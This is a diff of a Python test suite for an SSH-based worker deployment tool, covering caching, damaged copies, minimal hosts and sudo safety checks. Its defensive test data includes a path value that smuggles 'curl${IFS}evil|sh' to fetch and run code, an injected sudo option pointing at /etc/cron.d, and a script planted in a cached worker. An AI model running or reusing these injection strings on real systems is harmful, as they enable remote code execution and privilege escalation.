@@ -30,7 +30,8 @@ from netbench.hosts.local import LocalChannel, LocalProcess
 from netbench.hosts.shell import Shell
 from netbench.hosts.ssh.channel import SshChannel
 from netbench.run import conductor
-from tests.support.sshd import UID, Bed, Server, bed, needs_sshd, sudo_setup, tmp_path, until
+from tests.support.running import wait_for
+from tests.support.sshd import UID, Bed, Server, bed, needs_sshd, sudo_setup, tmp_path
 
 __all__ = ["bed", "tmp_path"]
 pytestmark = [pytest.mark.root, needs_sshd]
@@ -81,6 +82,7 @@ def refusal(channel: Channel, helper: bool = False) -> str:
 
 
 def test_a_worker_is_copied_once_per_content(bed: Bed, tmp_path: Path) -> None:
+    """Only a few old ones are kept, also where the host's clock was ahead when it got them."""
     server, channel = bed.host()
     works(channel).close()
     (kept,) = cache(server).iterdir()
@@ -90,41 +92,32 @@ def test_a_worker_is_copied_once_per_content(bed: Bed, tmp_path: Path) -> None:
     before = kept.stat()
     works(channel).close()
     assert kept.stat().st_ino == before.st_ino
+    for number in range(6):
+        old = cache(server) / f"worker-{number}"
+        old.touch()
+        os.utime(old, (4_000_000_000 + number,) * 2)
+    (cache(server) / "a file of the user's").touch()
     other = tmp_path / "other"
     other.mkdir()
     (other / BUILT.name).write_bytes(BUILT.read_bytes() + b"another")
     works(bed.channel(package=other)).close()
-    assert len(list(cache(server).iterdir())) == 2
+    left = {file.name for file in cache(server).iterdir()}
+    assert len(left) == 4
+    assert left >= {"worker-4", "worker-5", "a file of the user's"}
 
 
-@pytest.mark.parametrize("damage", ["\x7fELF, once", "", "#!/bin/sh\ntouch $HOME/was-here\n"])
-def test_a_damaged_copy_is_replaced_and_not_run(bed: Bed, damage: str) -> None:
+def test_a_damaged_copy_is_replaced_and_not_run(bed: Bed) -> None:
     server, channel = bed.host()
     works(channel).close()
     (kept,) = cache(server).iterdir()
-    kept.write_text(damage)
-    worker = works(channel)
-    assert kept.read_bytes() == BUILT.read_bytes()
-    assert not (server.home / "was-here").exists()
-    worker.operate("exec", ["touch", f"{server.home}/made"])
-    assert (server.home / "made").stat().st_mode & 0o777 == 0o644, "the user's own mode"
-    worker.close()
-
-
-def test_only_a_few_old_workers_are_kept(bed: Bed) -> None:
-    """And the new one, also where the host's clock was ahead when it got the others."""
-    server, channel = bed.host()
-    ahead = 4_000_000_000
-    cache(server).mkdir(parents=True)
-    for number in range(6):
-        old = cache(server) / f"worker-{number}"
-        old.touch()
-        os.utime(old, (ahead + number, ahead + number))
-    (cache(server) / "a file of the user's").touch()
-    works(channel).close()
-    assert cache(server).stat().st_mode & 0o777 == 0o700
-    kept = {"worker-4", "worker-5", f"worker-{DIGEST}", "a file of the user's"}
-    assert {file.name for file in cache(server).iterdir()} == kept
+    for damage in ("\x7fELF, once", "", "#!/bin/sh\ntouch $HOME/was-here\n"):
+        kept.write_text(damage)
+        worker = works(channel)
+        assert kept.read_bytes() == BUILT.read_bytes()
+        assert not (server.home / "was-here").exists()
+        worker.operate("exec", ["touch", f"{server.home}/made"])
+        assert (server.home / "made").stat().st_mode & 0o777 == 0o644, "the user's own mode"
+        worker.close()
 
 
 # --- hosts that have little
@@ -143,14 +136,18 @@ def poor(folder: Path, *without: str) -> str:
     shutil.copy(busybox, tools / "busybox")
     for name in set(TOOLS) - set(without):
         (tools / name).symlink_to("/bin/dash" if name == "sh" and without else "busybox")
-    return f"SetEnv PATH={tools}\nSubsystem sftp /bin/false"
+    return f"Subsystem sftp /bin/false\nSetEnv PATH={tools}"
 
 
 def test_busybox_and_an_ordinary_user_are_enough(bed: Bed, tmp_path: Path) -> None:
     login = tmp_path / "login"
     login.write_text('#!/usr/bin/busybox sh\necho welcome\nexec /usr/bin/busybox sh "$@"\n')
     login.chmod(0o755)
-    server, channel = bed.host(user="bench", shell=str(login), sshd=poor(tmp_path))
+    path = poor(tmp_path)
+    _, channel = bed.host(sshd=f"{path} XDG_CACHE_HOME={tmp_path}/caches")
+    works(channel, helper=True).close()  # root needs no sudo
+    assert list((tmp_path / "caches" / "netbench").iterdir())
+    server, channel = bed.host(user="bench", shell=str(login), sshd=path)
     worker = works(channel)
     (kept,) = cache(server).iterdir()
     assert kept.stat().st_uid == UID
@@ -161,7 +158,7 @@ def test_busybox_and_an_ordinary_user_are_enough(bed: Bed, tmp_path: Path) -> No
     assert (server.home / "copy").read_bytes() == BUILT.read_bytes()
 
 
-@pytest.mark.parametrize("tool", ["sha256sum", "head", "sudo"])
+@pytest.mark.parametrize("tool", ["sha256sum", "sudo"])
 def test_a_tool_that_is_missing_is_named(bed: Bed, tmp_path: Path, tool: str) -> None:
     _, channel = bed.host(user="bench" if tool == "sudo" else "root", sshd=poor(tmp_path, tool))
     assert f"the host has no `{tool}`" in refusal(channel, helper=tool == "sudo")
@@ -173,15 +170,13 @@ def test_a_tool_that_is_missing_is_named(bed: Bed, tmp_path: Path, tool: str) ->
 @pytest.mark.parametrize(
     "setup",
     [
-        mounted("noexec", "$HOME"),
         f"mkdir -p $HOME/.cache/netbench; cp {BUILT} $HOME/.cache/netbench/worker-{DIGEST}; chown -R {UID} $HOME/.cache\n"
         + mounted("noexec", "$HOME"),
         mounted("ro", "$HOME"),
         "mount -t tmpfs -o size=64k,mode=777 tmpfs $HOME",
         "mount -t tmpfs -o nr_inodes=2,mode=777 tmpfs $HOME",
-        "chmod 555 $HOME",
     ],
-    ids=["noexec", "noexec with a copy", "read-only", "disk full", "no inodes", "forbidden"],
+    ids=["noexec with a copy", "read-only", "disk full", "no inodes"],
 )
 def test_a_home_that_does_not_do_is_passed_over(bed: Bed, setup: str) -> None:
     _, channel = bed.host(user="bench", setup=setup)
@@ -211,14 +206,13 @@ def test_a_home_with_a_name_that_shells_read(bed: Bed) -> None:
             mounted("noexec", "$HOME", *ELSEWHERE),
             "programs cannot be run from there: .*Permission denied",
         ),
-        (mounted("ro", "$HOME", *ELSEWHERE), "Read-only file system"),
         (
             "for place in $HOME /var/tmp /dev/shm; do mount -t tmpfs -o size=64k,mode=1777 tmpfs $place; done\n"
             + mounted("ro", "/tmp"),
             "No space left on device",
         ),
     ],
-    ids=["noexec", "read-only", "disk full"],
+    ids=["noexec", "disk full"],
 )
 def test_a_host_without_any_place_says_why(bed: Bed, setup: str, words: str) -> None:
     server, channel = bed.host(user="bench", setup=setup)
@@ -227,7 +221,7 @@ def test_a_host_without_any_place_says_why(bed: Bed, setup: str, words: str) -> 
     for folder in (str(cache(server)), *(f"{place}/netbench-{UID}" for place in ELSEWHERE)):
         assert f"{folder}: " in message
     assert re.search(words, message)
-    assert not Path(f"/tmp/netbench-{UID}").exists()
+    assert not list(Path(f"/tmp/netbench-{UID}").glob("worker-*"))
 
 
 @pytest.mark.parametrize(
@@ -279,33 +273,24 @@ def test_another_architecture_is_built_on_the_host_once(bed: Bed, source_only: P
     assert "NOPASSWD" not in said, "what the account has built is the account's"
 
 
-@pytest.mark.parametrize(
-    ("compiler", "said"),
-    [
-        (
-            "",
-            f"no worker is built for {platform.machine()}, and the host cannot build one: it has no"
-            " `cc`; install a C compiler",
-        ),
-        ("echo no such header: errqueue.h >&2; exit 1", "be built: no such header: errqueue.h"),
-    ],
-)
-def test_a_build_that_fails_is_told(
-    bed: Bed, source_only: Path, tmp_path: Path, compiler: str, said: str
-) -> None:
-    path = poor(tmp_path)
-    for name, text in (("cc", compiler), ("tar", 'exec /bin/tar "$@"')):
-        if compiler:
-            (tmp_path / "bin" / name).write_text(f"#!/bin/sh\n{text}\n")
-            (tmp_path / "bin" / name).chmod(0o755)
-    server, _ = bed.host(sshd=path, user="bench")
+def test_a_build_that_fails_is_told(bed: Bed, source_only: Path, tmp_path: Path) -> None:
+    tools = {"cc": "echo no errqueue.h >&2; exit 1", "tar": 'exec /bin/tar "$@"'}
+    machine = platform.machine()
+    server, _ = bed.host(sshd=poor(tmp_path), user="bench")
     message = refusal(bed.channel(package=source_only))
-    assert said in message
-    assert compiler or f"netbench/engine/worker-{platform.machine()}" in message
+    why = (
+        f"no worker is built for {machine}, and the host cannot build one: it has no `cc`; install"
+    )
+    assert why in message
+    assert f"netbench/engine/worker-{machine}" in message
+    for name, text in tools.items():
+        (tmp_path / "bin" / name).write_text(f"#!/bin/sh\n{text}\n")
+        (tmp_path / "bin" / name).chmod(0o755)
+    assert "be built: no errqueue.h" in refusal(bed.channel(package=source_only))
     assert not cache(server).exists()
     (source_only / deploy.SOURCE).unlink()
-    nothing = f"no worker for {platform.machine()}; build it with `make`"
-    assert nothing in refusal(bed.channel(package=source_only))
+    said = refusal(bed.channel(package=source_only))
+    assert f"no worker for {machine}; build it with `make`" in said
 
 
 def test_the_shipped_source_depends_on_the_sources_alone(tmp_path: Path) -> None:
@@ -327,27 +312,11 @@ def test_workers_share_a_connection_and_none_remains(bed: Bed) -> None:
     first, second = works(channel), works(channel)
     assert len(server.workers()) == 2
     first.close()
-    until(lambda: len(server.workers()) == 1)
+    wait_for(lambda: len(server.workers()) == 1)
     assert second.operate("file", BOOT_ID)[0]
     channel.close()  # without GOODBYE
-    until(lambda: not server.workers())
+    wait_for(lambda: not server.workers())
     assert server.log.count("Accepted publickey") == 1
-
-
-def test_a_controller_that_is_killed_leaves_no_worker(bed: Bed) -> None:
-    server, _ = bed.host()
-    code = (
-        "import sys; from pathlib import Path; from netbench.hosts.ssh.channel import SshChannel\n"
-        "channel = SshChannel('snd', 'box', ssh_config=Path(sys.argv[1])); worker = channel.start_mover()\n"
-        "print(worker.read(20)[:0].decode() + 'up', flush=True); sys.stdin.read()"
-    )
-    argv, pipe = [sys.executable, "-c", code, bed.config], subprocess.PIPE
-    with subprocess.Popen(argv, stdin=pipe, stdout=pipe) as child:
-        assert child.stdout is not None
-        assert child.stdout.readline() == b"up\n"
-        assert len(server.workers()) == 1
-        child.send_signal(signal.SIGKILL)
-    until(lambda: not server.workers())
 
 
 # --- root by sudo
@@ -438,7 +407,7 @@ def test_the_lines_that_are_told_are_enough_and_no_way_to_root(bed: Bed, tries: 
     argv = [*nsenter, "env", f"HOME={server.home}", "sh", "-c", ATTACK]
     with subprocess.Popen(argv, stderr=subprocess.DEVNULL, start_new_session=True) as attack:
         try:
-            until((cache(server).parent / "good").exists)
+            wait_for((cache(server).parent / "good").exists)
             assert all(tried(server, f"{started} helper") for _ in range(tries))
             for _ in range(3):
                 with contextlib.suppress(HostError, EngineError):
@@ -507,28 +476,30 @@ OTHERS = {  # what is wrong with the place that sudo would start a helper from
 }
 
 
-@pytest.mark.parametrize("fault", OTHERS)
 def test_sudo_starts_nothing_that_others_than_root_could_change(
-    bed: Bed, shells: list[Path], monkeypatch: pytest.MonkeyPatch, fault: str
+    bed: Bed, shells: list[Path], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Over SSH and on the machine of the controller; also where sudo allows everything."""
-    make, path = OTHERS[fault]
-    server, channel = bed.host(user="bench", setup=sudo_setup(bed, ALL, BUILT) + make)
+    server, channel = bed.host(user="bench", setup=sudo_setup(bed, ALL, BUILT))
+    anew = f"chmod 755 /usr/local; rm -rf /usr/local/*; mkdir -p {deploy.PLACE}; umask 022; "
+    anew += f"cp {BUILT} {deploy.PLACE}/worker-{DIGEST}; chmod 755 {deploy.PLACE}\n"
     monkeypatch.setattr(os, "geteuid", lambda: UID)
-    for way in (channel, *(OnHost(server, shell) for shell in shells)):
-        said = refusal(way, helper=True)
-        assert f"below {path}, which others than root can change (" in said
-        assert f"`chown root {path}; chmod go-w {path}`" in said
+    for fault, (make, path) in OTHERS.items():
+        server.run(anew + make)
+        for way in (channel, *(OnHost(server, shell) for shell in shells)):
+            said = refusal(way, helper=True)
+            assert f"below {path}, which others than root can change (" in said, fault
+            assert f"`chown root {path}; chmod go-w {path}`" in said
 
 
 @pytest.mark.parametrize(
     "answer",
     [
-        *(
-            ["others", path, "drwxrwxr-x", "2", "1000"]
-            for path in ("/usr/local;curl${IFS}evil|sh;true", "/home/victim", f"{deploy.PLACE}/x")
-        ),
-        *(["sudo", name, "/home/a/.cache/netbench/worker-1"] for name in ("ALL", "%users", "a=b")),
+        ["others", "/usr/local;curl${IFS}evil|sh;true", "drwxrwxr-x", "2", "1000"],
+        ["others", "/home/victim", "drwxrwxr-x", "2", "1000"],
+        ["others", f"{deploy.PLACE}/x", "drwxrwxr-x", "2", "1000"],
+        ["sudo", "ALL", "/home/a/.cache/netbench/worker-1"],
+        ["sudo", "a=b", "/home/a/.cache/netbench/worker-1"],
         ["sudo", "bench", "-t/etc/cron.d", "/home/a/.cache/netbench/worker-1"],
     ],
 )
@@ -580,14 +551,3 @@ def test_users_without_root_learn_which_cells_need_it_and_what_else_is_wrong(
     assert "install -D -o root -g root" in said[2]
     assert "NOPASSWD" in said[3]
     assert len(said) == 4
-
-
-def test_a_cache_folder_of_the_users_choice(bed: Bed, tmp_path: Path) -> None:
-    _, channel = bed.host(sshd=f"SetEnv XDG_CACHE_HOME={tmp_path}/caches")
-    works(channel).close()
-    assert list((tmp_path / "caches" / "netbench").iterdir())
-
-
-def test_root_needs_no_sudo(bed: Bed, tmp_path: Path) -> None:
-    _, channel = bed.host(sshd=poor(tmp_path))
-    works(channel, helper=True).close()
